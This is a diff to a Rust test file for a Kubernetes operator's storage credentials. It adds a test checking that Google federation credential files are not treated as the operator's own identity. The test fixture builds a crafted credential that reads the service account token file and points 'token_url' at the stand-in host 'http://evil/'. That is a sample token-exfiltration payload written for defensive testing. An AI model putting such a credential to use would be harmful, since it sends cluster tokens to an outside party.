@@ -6,8 +6,8 @@ use async_trait::async_trait;
 use crds::{BackupStorage, BackupStorageSpec, JmxSettings};
 use kube::core::Selector;
 use protocol::{
-    AzureCredentials, ClientCertificate, GcsCredentials, JmxTls, Reason, S3Encryption, Secret,
-    StorageAccess,
+    AzureCredentials, ClientCertificate, GcsAccess, GcsCredentials, JmxTls, Reason, S3Encryption,
+    Secret, StorageAccess,
 };
 use serde_json::{Value, json};
 
@@ -253,4 +253,33 @@ async fn jmx_is_given_its_authorities_and_our_certificate() {
         plain_registry: true,
     };
     assert_eq!(access.tls, Some(expected));
+}
+
+/// Its file says what of the machine is sent where: here our own token, to somebody else.
+#[tokio::test]
+async fn a_federation_of_google_is_for_the_pods_and_never_for_the_operator() {
+    let file = |type_: &str| {
+        let file = json!({
+            "type": type_, "subject_token_type": "x", "token_url": "http://evil/",
+            "credential_source": {"file": "/var/run/secrets/kubernetes.io/serviceaccount/token"},
+        });
+        StorageAccess::Gcs(GcsAccess {
+            credentials: Some(GcsCredentials::Json(Secret::new(file.to_string()))),
+            ..GcsAccess::default()
+        })
+    };
+    for type_ in [
+        "external_account",
+        "impersonated_service_account",
+        "gdch_service_account",
+        "",
+    ] {
+        assert!(!has_identity(&file(type_)), "{type_}");
+    }
+    assert!(has_identity(&file("service_account")));
+    let broken = GcsCredentials::Json(Secret::new("no json"));
+    assert!(!has_identity(&StorageAccess::Gcs(GcsAccess {
+        credentials: Some(broken),
+        ..GcsAccess::default()
+    })));
 }
